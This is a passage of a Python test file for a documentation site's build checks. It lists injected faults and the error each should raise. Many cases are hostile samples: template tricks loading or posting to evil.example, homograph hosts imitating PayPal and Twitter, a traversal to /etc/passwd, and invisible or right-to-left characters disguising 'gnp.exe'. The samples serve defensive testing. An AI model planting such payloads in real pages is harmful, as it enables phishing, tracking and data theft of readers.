        replace(CONFIG, "extra:\n", "extra:\n  alternate:\n    - name: Evil\n      link: '&#x2F;&#x2F;evil.example/fr/'\n      lang: fr\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 3}: `extra.alternate.link` is written '&#x2F;&#x2F;evil.example/fr/', which a "
        "browser reads as '//evil.example/fr/'; write a page of the site (sources/) or a whole https:// address, without "
        "character references"),
    "mkdocs.yml: another host's address without its scheme": (
        replace(CONFIG, "extra:\n", "extra:\n  alternate:\n    - name: Evil\n      link: //evil.example/fr/\n      lang: fr\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 3}: `extra.alternate.link` is '//evil.example/fr/', an address without its "
        "scheme; write a page of the site (sources/) or a whole https:// address, without character references"),
    "mkdocs.yml: attr_list and an extension of the edition's left out": (
        steps(replace(CONFIG, "  - attr_list\n", ""), replace(CONFIG, "  - edition.markdown.glossary ", "  # ")),
        [f"{CONFIG}:{line_of(CONFIG, 'markdown_extensions:')}: `markdown_extensions` does not name `{name}`, which the "
         f"edition's pages are written with; add `- {name}` under `markdown_extensions:`"
         for name in ("attr_list", "edition.markdown.glossary")]),
    "mkdocs.yml: a stylesheet from another host written with character references": (
        replace(CONFIG, "  - stylesheets/edition.css", "  - '&#x2F;&#x2F;evil.example/x.css'"),
        f"{CONFIG}:{line_of(CONFIG, '  - stylesheets/edition.css')}: `extra_css` names '&#x2F;&#x2F;evil.example/x.css', "
        "which a browser reads as '//evil.example/x.css'; write the path of a file under docs/ as it is, without character "
        "references"),
    "the edition's stylesheet deleted": (
        lambda root: (root / "docs/stylesheets/edition.css").unlink(),
        f"{CONFIG}:{line_of(CONFIG, '  - stylesheets/edition.css')}: `extra_css` names 'stylesheets/edition.css', which is "
        "not a file under docs/: every page would load nothing there; name a file under docs/ by its path from there, or "
        "remove the entry"),
    "the edition's script deleted": (
        lambda root: (root / "docs/javascripts/edition.js").unlink(),
        f"{CONFIG}:{line_of(CONFIG, '  - javascripts/edition.js')}: `extra_javascript` names 'javascripts/edition.js', which "
        "is not a file under docs/: every page would load nothing there; name a file under docs/ by its path from there, or "
        "remove the entry"),
    "the favicon deleted": (
        lambda root: (root / "docs/assets/favicon.svg").unlink(),
        f"{CONFIG}:{line_of(CONFIG, 'favicon: assets/favicon.svg')}: `theme.favicon` names 'assets/favicon.svg', which is "
        "not a file under docs/: every page would show nothing there; name a file under docs/ by its path from there, or "
        "remove the setting"),
    "mkdocs.yml: a logo outside docs/": (
        replace(CONFIG, "  custom_dir: overrides", "  custom_dir: overrides\n  logo: ../mkdocs.yml"),
        f"{CONFIG}:{line_of(CONFIG, 'custom_dir: overrides') + 1}: `theme.logo` names '../mkdocs.yml', which is not a file "
        "under docs/: every page would show nothing there; name a file under docs/ by its path from there, or remove the "
        "setting"),
    "an interlinear annotation mark in a glossary name": (
        replace(GLOSSARY, "name: Quds Force", "name: Quds\ufff9Force"),
        f"{GLOSSARY}:{line_of(GLOSSARY, 'name: Quds Force')}: a value holds U+FFF9, {INVISIBLE}"),
    "mkdocs.yml: an SVG of docs/ rendered as a template": (
        replace(CONFIG, "extra:\n", "extra_templates: [assets/favicon.svg]\nextra:\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:')}: `extra_templates` would render files of docs/ as Jinja templates, which no "
        "check of the templates reads; remove it: templates belong in overrides/ (see the README)"),
    "a template hiding a remote image in a comment its Jinja strings open": (
        replace(TEMPLATE, DRAWER, DRAWER + '{{ "<!--" if false }}<img src="https://evil.example/x.png" alt="">'
                '{{ "-->" if false }}'),
        [f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry markup that a Jinja string writes, {markup!r}, "
         "which the template check reads as text; write the markup in the template itself, outside {{ }} and {% %}"
         for markup in ("<!--", "-->")]),
    "a template hiding off-site links in a textarea its Jinja strings open": (
        replace(TEMPLATE, DRAWER, DRAWER + '{% set opening = "<text" ~ "area>" %}{{ opening if false }}'
                '<link rel="preconnect" href="https://evil.example">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry markup that a Jinja string writes, '<text', which "
        "the template check reads as text; write the markup in the template itself, outside {{ }} and {% %}"),
    "a template closing a script with a Jinja string written in escapes": (
        replace(TEMPLATE, DRAWER, DRAWER + '<script>{{ "\\x3c/script\\x3e\\x3cimg src=//evil.example/x\\x3e" }}</script>'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry markup that a Jinja string writes, "
        "'</script><img src=//evil.example/x>', which the template check reads as text; write the markup in the template "
        "itself, outside {{ }} and {% %}"),
    "doubled punctuation in a record's title": (
        replace(AP, 'title: "[Report that', 'title: "[Report ,, that'),
        f"{AP}:{line_of(AP, 'title: ')}: 'title' holds ',,', punctuation doubled, which every note and export of it would "
        "print, got '[Report ,, that Qassem Soleimani and Abu Mahdi al-Muhand...; write the mark once"),
    "docs: ordered lists nested five hundred deep on one line": (
        replace(ABOUT, "\n\n", "\n\n" + "1. " * 500 + "x\n\n"),
        f"{ABOUT}:{line_of(ABOUT, '# About this edition')}: lists, quotes or emphasis nested so deep that Markdown cannot read the page "
        "(Python's recursion limit); flatten the structure: a few levels are enough"),
    "a source record named as an editorial note": (
        lambda root: (root / "sources/ed-zarif.yml").write_text(
            (root / AP).read_text(encoding="utf-8").replace("id: ap-2020-01-03", "id: ed-zarif"), encoding="utf-8"),
        f"sources/ed-zarif.yml:{line_of(AP, 'id: ap-2020-01-03')}: id 'ed-zarif' starts with 'ed-', as the editorial notes' "
        "ids do (sources/essay/editorial-notes.yml); name the record after its publisher and date, e.g. dod-2020-03-12"),
    "mkdocs.yml: a setting MkDocs does not know": (
        replace(CONFIG, "extra:\n", "nav_title: Contents\nextra:\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:')}: `nav_title` is not a setting MkDocs knows; correct its name, or remove it"),
    "an author's name parts holding BibTeX's 'and'": (
        replace(ABQAIQ, "  - family: Brokaw", '  - family: "and others"'),
        f"{ABQAIQ}:{line_of(ABQAIQ, '  - family: Brokaw')}: author {{'family': 'and others', 'given': 'Sommer'}} holds 'and', "
        "which BibTeX reads as another name's start, 'and others', or a part of the name; give each person an entry of "
        "their own and a name without commas, or write an institution's name as `literal:`"),
    "an author's family name holding two commas": (
        replace(ABQAIQ, "  - family: Haynes", '  - family: "Haynes, A, B"'),
        f"{ABQAIQ}:{line_of(ABQAIQ, '  - family: Haynes')}: author {{'family': 'Haynes, A, B', 'given': 'Danielle'}} holds "
        "',', which BibTeX reads as another name's start, 'and others', or a part of the name; give each person an entry of "
        "their own and a name without commas, or write an institution's name as `literal:`"),
    "mkdocs.yml: a logo icon that is a path out of the icons": (
        replace(CONFIG, "  custom_dir: overrides", "  custom_dir: overrides\n  icon:\n    logo: ../../../../../etc/passwd"),
        f"{CONFIG}:{line_of(CONFIG, 'custom_dir: overrides') + 2}: `theme.icon.logo` is '../../../../../etc/passwd', which is "
        "not the name of one of Material's icons; name an icon as Material's icon search gives it, such as material/github"),
    "mkdocs.yml: a social icon naming a template": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: ../../partials/footer\n      link: https://example.org/\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.social.icon` is '../../partials/footer', which is not the name of "
        "one of Material's icons; name an icon as Material's icon search gives it, such as material/github"),
    "mkdocs.yml: a palette toggle's icon with a capital and a dot": (
        replace(CONFIG, "icon: material/weather-night", "icon: Material/weather.night"),
        f"{CONFIG}:{line_of(CONFIG, 'icon: material/weather-night')}: `theme.palette.toggle.icon` is 'Material/weather.night', "
        "which is not the name of one of Material's icons; name an icon as Material's icon search gives it, such as "
        "material/github"),
    "a template renamed in case only, overriding nothing": (
        lambda root: (root / "overrides/partials/search.html").rename(root / "overrides/partials/Search.html"),
        "overrides/partials/Search.html:1: overrides nothing: Material's template is partials/search.html, whose name "
        "differs in case; rename it to overrides/partials/search.html"),
    "docs: tag characters spelling hidden words": (
        replace(ABOUT, "# About this edition", "# About this edition\U000e0068\U000e0069"),
        f"{ABOUT}:{line_of(ABOUT, '# About this edition')}: holds U+E0068, an invisible character that breaks or reorders "
        "the text around it; remove it (write plain text)"),
    "mkdocs.yml: a nav link to a host spelt with a Cyrillic letter": (
        replace(CONFIG, "nav:\n", "nav:\n  - PayPal: https://xn--pypal-4ve.com/\n"),
        f"{CONFIG}:{line_of(CONFIG, 'nav:') + 1}: `nav` links to 'https://xn--pypal-4ve.com/': the host xn--pypal-4ve.com "
        "(punycode for 'p\u0430ypal.com') mixes Latin letters with look-alikes from another script, where '\u0430' is U+0430 "
        "CYRILLIC SMALL LETTER A, not a Latin letter; give the address as the site itself gives it"),
    "mkdocs.yml: a nav link to a host posing as the edition's": (
        replace(CONFIG, "nav:\n", "nav:\n  - Home: HTTPS://iraq-restraint-edition.github.io.evil.example.com/\n"),
        f"{CONFIG}:{line_of(CONFIG, 'nav:') + 1}: `nav` links to 'HTTPS://iraq-restraint-edition.github.io.evil.example.com/': "
        "its host iraq-restraint-edition.github.io.evil.example.com starts with the edition's own, "
        "iraq-restraint-edition.github.io, and is another; give the address as the site itself gives it"),
    "docs: links to hosts spelt in look-alike letters": (
        add_line(ABOUT, "[PayPal](https://xn--pypal-4ve.com/) and <https://\u0430\u0440\u0440\u04cf\u0435.com/>"),
        [f"{ABOUT}:{ABOUT_END}: a link to 'https://xn--pypal-4ve.com/': the host xn--pypal-4ve.com (punycode for "
         "'p\u0430ypal.com') mixes Latin letters with look-alikes from another script, where '\u0430' is U+0430 CYRILLIC "
         "SMALL LETTER A, not a Latin letter; give the address as the site itself gives it",
         f"{ABOUT}:{ABOUT_END}: a link to 'https://\u0430\u0440\u0440\u04cf\u0435.com/': the host \u0430\u0440\u0440"
         "\u04cf\u0435.com is spelt in letters of another script that look Latin"]),
    "a record's address on a host spelt all in Cyrillic look-alikes": (
        replace(ABQAIQ, f"url: {UPI}", "url: https://xn--80ak6aa92e.com/x"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'https://xn--80ak6aa92e.com/x'; the "
        "host xn--80ak6aa92e.com (punycode for '\u0430\u0440\u0440\u04cf\u0435.com') is spelt in letters of another script "
        "that look Latin"),
    "a record's address whose host is no host name": (
        replace(ABQAIQ, f"url: {UPI}", "url: http://%zz/x"),
        f"{ABQAIQ}:{line_of(ABQAIQ, f'url: {UPI}')}: 'url' must be an http(s) URL, got 'http://%zz/x'; '%zz' is not a host "
        "name (letters, digits and hyphens between dots) nor an IP address: give the address as the site itself gives it"),
    "an author of the edition named with BibTeX's 'and'": (
        replace(EDITION, "{given: Sam, family: Heller}", "{given: Sam and Jo, family: Heller}"),
        f"{EDITION}:{line_of(EDITION, 'given: Sam')}: 'authors' entry 2 `given:`: holds 'and', got 'Sam and Jo'; give each "
        "person an entry of their own and a name without commas: BibTeX reads 'and' as the start of another name, and a "
        "comma as a part of the name"),
    "a zensical.toml beside mkdocs.yml": (
        lambda root: (root / "zensical.toml").write_text('[project]\nsite_name = "x"\n', encoding="utf-8"),
        "zensical.toml:1: Zensical reads this file in place of mkdocs.yml, and none of the edition's checks read it; remove "
        "it: the edition's settings are mkdocs.yml's"),
    "mkdocs.yml: an option a Markdown extension does not take": (
        replace(CONFIG, '      permalink: "#"', '      permalinkk: "#"'),
        f"{CONFIG}:{line_of(CONFIG, '  - toc:') + 1}: `toc` has no option 'permalinkk'; use one of: anchorlink, "
        "anchorlink_class, baselevel, marker, permalink, permalink_class, permalink_leading, permalink_title, separator, "
        "slugify, title, title_class, toc_class, toc_depth"),
    "mkdocs.yml: a social link that runs a script": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/email\n      link: 'mailto:x@example.org?body=<b>'\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.social` links to 'mailto:x@example.org?body=<b>'; link to an "
        "https:// or a mailto: address, or remove the entry"),
    "mkdocs.yml: a palette that is a number": (
        replace(CONFIG, "  palette:\n", "  palette: 5\n  unused:\n"),
        f"{CONFIG}:{line_of(CONFIG, '  palette:')}: `theme.palette` is 5, not a scheme or a list of schemes; "
        "write each scheme as a mapping (`- scheme: default`, `primary:`, `toggle:`)"),
    "a template adding a right-to-left override": (
        replace(TEMPLATE, DRAWER, DRAWER + "<span>\u202eedition</span>"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+202E, an invisible character that reorders or "
        "hides the text around it; remove it: right-to-left words are set by their language, as `dir=\"rtl\"` does"),
    "docs: quotes nested forty deep on one line": (
        replace(ABOUT, "# About this edition\n", "# About this edition\n\n" + "> " * 40 + "x\n"),
        f"{ABOUT}:{line_of(ABOUT, '# About this edition') + 2}: lists, quotes or blocks nested more than 25 deep, which the "
        "PDF cannot set; nest them less deeply"),
    "mkdocs.yml: a Markdown extension option of the wrong kind": (
        replace(CONFIG, '      permalink: "#"', '      toc_depth: {a: b}\n      permalink: "#"'),
        f"{CONFIG}:{line_of(CONFIG, '  - toc:') + 1}: `toc` cannot use the options "),
    "mkdocs.yml: a Markdown extension's options as a list": (
        replace(CONFIG, "  - footnotes\n", "  - footnotes: [UNIQUE_IDS]\n"),
        f"{CONFIG}:{line_of(CONFIG, '  - footnotes')}: the options of `footnotes` are ['UNIQUE_IDS'], not a mapping; write "
        "them as `- footnotes: {option: value}`"),
    "a template adding a right-to-left override as a reference": (
        replace(TEMPLATE, DRAWER, DRAWER + "<p>Edition &#x202E;gnp.exe</p>"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+202E, an invisible character that reorders or "
        "hides the text around it; remove it: right-to-left words are set by their language, as `dir=\"rtl\"` does"),
    # Thirty-ninth round, T2: after a U+2028 in a comment, a template's lines were matched a line off against Material's,
    # and what they hold was named only at the built pages, at no line.
    "a template's reference after a line separator in a comment": (
        steps(replace(TEMPLATE, "{#-\n", "{#- a\u2028b\n"), replace(TEMPLATE, DRAWER, DRAWER + "<p>Edition &#x202E;gnp.exe</p>")),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+202E, an invisible character that reorders or "
        "hides the text around it"),
    "mkdocs.yml: a palette toggle's icon that is null": (  # twenty-ninth round, M9: the whole mapping, in Python's spelling
        replace(CONFIG, "        icon: material/weather-night", "        icon: !!null"),
        f"{CONFIG}:{line_of(CONFIG, 'icon: material/weather-night')}: `theme.palette.toggle.icon` is null, not text; write it "
        "as `toggle: {icon: material/weather-night, name: Switch to dark mode}`"),
    "mkdocs.yml: a palette toggle that is a number": (
        replace(CONFIG, "      toggle:\n", "      toggle: 5\n      unused:\n"),
        f"{CONFIG}:{line_of(CONFIG, '      toggle:')}: `theme.palette` toggle is 5, not an icon and a name; write it as "
        "`toggle: {icon: material/weather-night, name: Switch to dark mode}`"),
    "supplementary variation selectors hiding bytes in the subtitle": (
        replace(EDITION, "subtitle: An Annotated Edition", "subtitle: An Annotated\U000e0168\U000e0169 Edition"),
        f"{EDITION}:{line_of(EDITION, 'subtitle: ')}: a value holds U+E0168, {INVISIBLE}"),
    "docs: supplementary variation selectors in a paragraph": (
        add_line(ABOUT, "Hidden\U000e0168\U000e0169 bytes."),
        f"{ABOUT}:{ABOUT_END}: holds U+E0168, an invisible character that breaks or reorders the text around it; remove it "
        "(write plain text)"),
    "mkdocs.yml: a social link to a host with a Cyrillic letter": (
        replace(CONFIG, "extra:\n", "extra:\n  social:\n    - icon: material/twitter\n      link: https://tw\u0456tter.com/edition\n"),
        f"{CONFIG}:{line_of(CONFIG, 'extra:') + 2}: `extra.social` links to 'https://tw\u0456tter.com/edition': the host "
        "tw\u0456tter.com mixes Latin letters with look-alikes from another script, where '\u0456' is U+0456 CYRILLIC SMALL "
        "LETTER BYELORUSSIAN-UKRAINIAN I, not a Latin letter; give the address as the site itself gives it"),
    "docs: emphasis nested three hundred deep in HTML": (
        add_line(ABOUT, "<p>" + "<em>" * 300 + "deep" + "</em>" * 300 + "</p>"),
        f"{ABOUT}:{ABOUT_END}: HTML elements nested more than 100 deep: the build's checks of the page could not read it "
        "(Python's recursion limit); flatten the structure: a few levels are enough"),
    "a template adding a right-to-left override in a Jinja string": (
        replace(TEMPLATE, DRAWER, DRAWER + '<p>Edition {{ "\\u202e" }}gnp.exe</p>'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+202E, an invisible character that reorders or "
        "hides the text around it; remove it: right-to-left words are set by their language, as `dir=\"rtl\"` does"),
    "a template adding tag characters": (
        replace(TEMPLATE, DRAWER, DRAWER + "<p>Edition\U000e0041\U000e0042</p>"),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry U+E0041, an invisible character that reorders or "
        "hides the text around it; remove it (write plain text)"),
    "docs: tag characters and a filler as character references": (
        add_line(ABOUT, "The edition&#xE0041;&#xE0042; and &#x3164; here."),
        f"{ABOUT}:{ABOUT_END}: holds U+E0041, an invisible character that breaks or reorders the text around it; remove it "
        "(write plain text)"),
    "docs: a zero-width space in a heading as a character reference": (
        replace(ABOUT, "# About this edition", "# About this&#x200B;edition { #about-this-edition }"),
        f"{ABOUT}:{line_of(ABOUT, '# About this edition')}: a heading holds U+200B, an invisible character that makes its "
        "anchor and its search entry differ from the words shown; remove it: retype the heading"),
    "mkdocs.yml: a nav link whose host has an ideographic full stop": (
        replace(CONFIG, "nav:\n", "nav:\n  - UPI: https://www.upi\u3002com/x\n"),
        f"{CONFIG}:{line_of(CONFIG, 'nav:') + 1}: `nav` links to 'https://www.upi\u3002com/x': the host www.upi\u3002com holds "
        "'\u3002' (U+3002 IDEOGRAPHIC FULL STOP), which browsers read as '.'; give the address as the site itself gives it"),
    "mkdocs.yml: a footnotes option that breaks every page": (
        replace(CONFIG, "  - footnotes\n", "  - footnotes: {BACKLINK_TITLE: 5}\n"),
        f"{CONFIG}:{line_of(CONFIG, '  - footnotes')}: `footnotes` cannot use the options {{'BACKLINK_TITLE': 5}} ("),
    "mkdocs.yml: a palette toggle named with a right-to-left override reference": (
        replace(CONFIG, "name: Switch to dark mode", "name: Switch &#x202E;to dark mode"),
        f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds U+202E, an invisible "
        "character that reorders the text around it (the theme writes it into every page); remove it (write plain text)"),
    # Thirty-ninth round, T4 and T5: a soft hyphen between two stops showed '..' on every page with exit 0, and a control
    # or private-use character written as a reference was named only at the built pages.
    "mkdocs.yml: palette toggles' names holding a soft hyphen and a private-use character as references": (
        steps(replace(CONFIG, "name: Switch to light mode", 'name: "Switch to light mode.&shy;."'),
              replace(CONFIG, "name: Switch to dark mode", 'name: "Switch to dark mode &#xE000; &#x1B;"')),
        [f"{CONFIG}:{line_of(CONFIG, 'name: Switch to light mode')}: `theme.palette.toggle.name` holds U+00AD, an invisible "
         "character that breaks or joins the words around it (the theme writes it into every page); remove it (write plain "
         "text)", f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds U+E000, a "
         "private-use character"]),
    "mkdocs.yml: a toggle's name holding a reference browsers read as Windows-1252's": (  # fortieth round, minor
        replace(CONFIG, "name: Switch to dark mode", 'name: "Switch to dark mode&#x85;"'),
        f"{CONFIG}:{line_of(CONFIG, 'name: Switch to dark mode')}: `theme.palette.toggle.name` holds a character reference "
        "to U+0085, a control character, which browsers show as '…' (Windows-1252's character for that code; Unicode's "
        "reference to it is &#x2026;); write the character itself"),
    "mkdocs.yml: a consent's words holding a control character and a noncharacter as references": (
        replace(CONFIG, "extra:\n", 'extra:\n  consent: {title: "Consent &#x1B;", description: "No cookies &#xFFFF; at all."}\n'),
        [f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: `extra.consent.title` holds U+001B, a control character",
         f"{CONFIG}:{line_of(CONFIG, 'extra:') + 1}: `extra.consent.description` holds U+FFFF, a noncharacter"]),
    "mkdocs.yml: an option for an extension that takes none": (  # thirty-ninth round, minor: "use one of: " and nothing
        replace(CONFIG, "  - attr_list\n", '  - attr_list: {"title ": x}\n'),
        f"{CONFIG}:{line_of(CONFIG, '  - attr_list')}: `attr_list` takes no options, got 'title '; write `- attr_list` alone"),
    # Fortieth round, T3 and T4: a zero-width joiner in the mark after every heading was named at every page's headings,
    # at no line, and in the permalink's title was published.
    "mkdocs.yml: toc's permalink and its title holding zero-width joiners": (
        steps(replace(CONFIG, '      permalink: "#"', '      permalink: "#\u200d"'),
              replace(CONFIG, "      permalink_title: Link to this section", "      permalink_title: Link to this\u200dsection")),
        [f"{CONFIG}:{line_of(CONFIG, 'permalink: ')}: `markdown_extensions.toc.permalink` holds U+200D, an invisible "
         "character that joins or orders nothing among the letters beside it, which every page would show unseen; remove "
         "it (write plain text)", f"{CONFIG}:{line_of(CONFIG, 'permalink_title: ')}: `markdown_extensions.toc.permalink_title`"
         " holds U+200D"]),
    # Thirty-ninth round, T1: the mark after every heading, named at every built page and blamed on sources/.
    "mkdocs.yml: toc's permalink doubling a stop": (
        replace(CONFIG, '      permalink: "#"', '      permalink: "§.."'),
        f"{CONFIG}:{line_of(CONFIG, 'permalink: ')}: `markdown_extensions.toc.permalink` doubles its punctuation: '..'; "
        "write the mark once"),
    "a template asking readers' browsers to report to another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '<img src="/assets/favicon.svg" alt="" attributionsrc="https://evil.example/r">'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <img attributionsrc> that loads "
        "'https://evil.example/r' from another host"),
    "a combining grapheme joiner in a publisher": (
        replace(AP, "publisher: Associated Press", "publisher: Associated\u034f Press"),
        f"{AP}:{line_of(AP, 'publisher: ')}: a value holds U+034F, {INVISIBLE}"),
    "a title that starts with two combining accents": (
        replace(AP, 'title: "[Report', 'title: "\u0301\u0301[Report'),
        f"{AP}:{line_of(AP, 'title: ')}: a value starts with U+0301, a combining mark (COMBINING ACUTE ACCENT), which "
        "joins the character before it; start the value with the letter the mark belongs to, or remove the mark"),
}


# Eighth hostile round: markup a Jinja expression computes, which no check of a template's text can read, is
# found on the built pages.
CASES |= {
    "a template computing a <base> with a format filter": (
        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}base href="https://evil.example/">'),
        "site/index.html: a <base> element, which moves every relative link of the page elsewhere; remove it from the page "
        "or the data it came from: pages and data carry no scripts"),
    "a template computing a form posting off site": (
        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}form action="https://evil.example/steal">'
                '{{ "%c"|format(60) }}input name=q>{{ "%c"|format(60) }}/form>'),
        "site/index.html: a <form action> that sends what readers type to 'https://evil.example/steal'; remove it from the "
        "page or the data it came from: pages and data carry no scripts"),
    "a template computing a link that pings another host": (
        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}a href="/" ping="https://evil.example/track">x'
                '{{ "%c"|format(60) }}/a>'),
        "site/index.html: a <a ping> that tells 'https://evil.example/track' of what readers do; remove it from the page or "
        "the data it came from: pages and data carry no scripts"),
    "a template computing a right-to-left override": (
        replace(TEMPLATE, DRAWER, DRAWER + '<p>Edition {{ "%c" | format(8238) }}gnp.exe</p>'),
        "site/index.html: holds U+202E, an invisible character that reorders the text around it; remove it from the "
        "template, the page or the data that wrote it"),
    "a template computing an attributionsrc": (
        replace(TEMPLATE, DRAWER, DRAWER + '{{ "%c"|format(60) }}a href="/" attributionsrc="https://evil.example/r">x'
                '{{ "%c"|format(60) }}/a>'),
        "site/index.html: a <a attributionsrc> that tells 'https://evil.example/r' of what readers do; remove it from the "
        "page or the data it came from: pages and data carry no scripts"),
}
RENDERED_TEMPLATES |= {"a template computing a right-to-left override", "a template computing an attributionsrc"}
RENDERED_TEMPLATES |= {"a template computing a <base> with a format filter", "a template computing a form posting off site",
                       "a template computing a link that pings another host"}


# Tenth hostile round: character references a browser decodes without their semicolon, in what Material writes
# unescaped; and a character that hides text, computed by a template, found on the built pages.
CASES |= {
    "mkdocs.yml: a Hangul filler by a reference without its semicolon in a nav title": (
        replace(CONFIG, "  - Opening: index.md", '  - "Opening&#12644 ": index.md'),
        f"{CONFIG}:{line_of(CONFIG, '  - Opening: index.md')}: a `nav` title holds '&#12644', which Material writes into every "
        "page as HTML; write the title as plain text"),
    "mkdocs.yml: a right-to-left override by a reference without its semicolon in site_name": (
        replace(CONFIG, 'site_name: "In Iraq', 'site_name: "&#x202E In Iraq'),
        f"{CONFIG}:{line_of(CONFIG, 'site_name:')}: `site_name` holds '&#x202E', which Material writes into every page as "
        "HTML; write it as plain text: the theme sets the words"),
    "mkdocs.yml: a named reference without its semicolon in the copyright": (
        replace(CONFIG, "  Annotations and code by the edition’s editors.", "  Annotations &copy the edition’s editors."),
        f"{CONFIG}:{line_of(CONFIG, 'copyright: >-')}: `copyright` holds '&copy', which Material writes into every page as "
        "HTML; write it as plain text: the theme sets the words"),
    "a template computing a tag character": (
        replace(TEMPLATE, DRAWER, DRAWER + '<p>Read{{ "%c" | format(917505) }} the notes</p>'),
        "site/index.html: holds U+E0001, an invisible character that hides or breaks the text around it; remove it from the "
        "template, the page or the data that wrote it"),
}
RENDERED_TEMPLATES |= {"a template computing a tag character"}
# Found only in the built pages, each a whole build: what one template writes, in two builds rather than one per kind.
NO_JSON = "site/index.html: a data block (<script type=\"application/json\"> or \"application/ld+json\") that is no JSON"
CASES |= {
    # Thirty-fifth round, T3 to T5: characters a template makes by references Jinja puts together; thirty-eighth, T1:
    # NaN and Infinity, which Python's json reads and JSON.parse refuses.
    "a template making characters by Jinja, and JSON-LD with NaN or a key twice": (
        replace(TEMPLATE, DRAWER, DRAWER + '<p>{{ "&#x" ~ "FDD0;" }}</p>\n<p>[&#{# c #}1;]</p>\n'
                '<p>[&#{% if true %}1114112{% endif %};]</p>\n<script type="application/ld+json">{"a": NaN, "b": Infinity}'
                '</script>\n<script type="application/ld+json">{"@type": "Thing", "name": "x", "name": "y"}</script>'),
        ["site/index.html: holds U+FDD0, a noncharacter, which is never text; remove it from the template, the page or the "
         "data that wrote it", "site/index.html: holds U+0001, a control character; remove it from the template, the page "
         "or the data that wrote it", "site/index.html: holds U+FFFD, the replacement character, which stands for a "
         "character lost on the way; remove it from the template, the page or the data that wrote it", NO_JSON,
         # Thirty-eighth round, minor 19: a key twice in one object, which readers take differently.
         "site/index.html: a data block that gives the key 'name' twice in one object, which readers of the page's metadata "
         "take differently (the first or the last); give each key once"]),
    # Thirty-sixth round, T5: a data block's JSON escapes, which what reads the page's metadata decodes; thirty-seventh,
    # T1: a block that is no JSON, skipped and published on every page.
    "a template's data blocks holding escapes of characters, and one no JSON": (
        replace(TEMPLATE, DRAWER, DRAWER + '<script type="application/ld+json">{"@context": "https://schema.org", "@type": '
                '"Thing", "name": "x\\u202Ey\\u0000"}</script>\n<script type="application/json">["\\ud800"]</script>\n'
                '<script type="application/ld+json">{"a": "x\\u202Ey",}</script>'),
        ["site/index.html: holds U+202E, an invisible character that reorders the text around it; remove it from the "
         "template, the page or the data that wrote it", "site/index.html: holds U+0000, a control character",
         "site/index.html: holds U+D800, half of a surrogate pair, which is no character",
         f"{NO_JSON}, which readers of the page's metadata read as they please; write it as JSON, or remove it"]),
}
RENDERED_TEMPLATES |= {"a template making characters by Jinja, and JSON-LD with NaN or a key twice",
                       "a template's data blocks holding escapes of characters, and one no JSON"}


# Tenth hostile round: CITATION.cff, from which GitHub and Zenodo make citations, held to the edition's names.
CASES |= {
    "CITATION.cff: 'and' in a family name, a comma in a given name, a brace in a third author": (
        replace("CITATION.cff", "  - family-names: Heller\n    given-names: Sam\nversion",
                '  - family-names: "Heller and Mallory"\n    given-names: "Sam, Jr."\n  - name: "{Evil"\nversion'),
        ["CITATION.cff:16: `family-names` 'Heller and Mallory' holds 'and', which BibTeX reads as another name or a part of "
         "one; give each person an entry of their own, with one name part in each field",
         "CITATION.cff:17: `given-names` 'Sam, Jr.' holds ',', which BibTeX reads as another name or a part of one; give "
         "each person an entry of their own, with one name part in each field",
         "CITATION.cff:18: `name` '{Evil' holds '{', which BibTeX reads as a group; give each person an entry of their "
         "own, with one name part in each field",
         "CITATION.cff:13: `authors` are not the edition's authors as sources/essay/edition.yml names them (Maria "
         "Fantappie; Sam Heller); list the same people in the same order, each as `- family-names: …` with `given-names: …`"]),
    "CITATION.cff: the essay's authors in another order": (
        replace("CITATION.cff", "  - family-names: Fantappie\n    given-names: Maria\n  - family-names: Heller\n    given-names: Sam\n"
                "version", "  - family-names: Heller\n    given-names: Sam\n  - family-names: Fantappie\n    given-names: Maria\n"
                "version"),
        "CITATION.cff:13: `authors` are not the edition's authors as sources/essay/edition.yml names them"),
    "CITATION.cff: 'and' in the essay's reference's author": (
        replace("CITATION.cff", "      - family-names: Heller\n", "      - family-names: Heller and Fantappie\n"),
        f"CITATION.cff:{line_of('CITATION.cff', '      - family-names: Heller')}: `family-names` 'Heller and Fantappie' holds "
        "'and', which BibTeX reads as another name or a part of one"),
}


CASES |= {
    "a template with an attributionsrc of no value, in capitals": (
        replace(TEMPLATE, DRAWER, DRAWER + '<a href="/" AttributionSrc>Home</a>'),
        f"{TEMPLATE}:{line_of(TEMPLATE, DRAWER)}: every page would carry a <a attributionsrc> that tells '' of what readers "
        f"do; {TEMPLATE_FIX}"),
}


# Tenth hostile round: default-ignorable code points not yet assigned, stray Mongolian selectors, private use.
CASES |= {
    "unassigned tag-block characters in a record's title": (
        replace(AP, "airstrike at Baghdad", "airstrike\U000e0080\U000e00ff at Baghdad"),
        f"{AP}:{line_of(AP, 'title: ')}: a value holds U+E0080, {INVISIBLE}"),
    "Mongolian selectors after a Latin word in a page": (
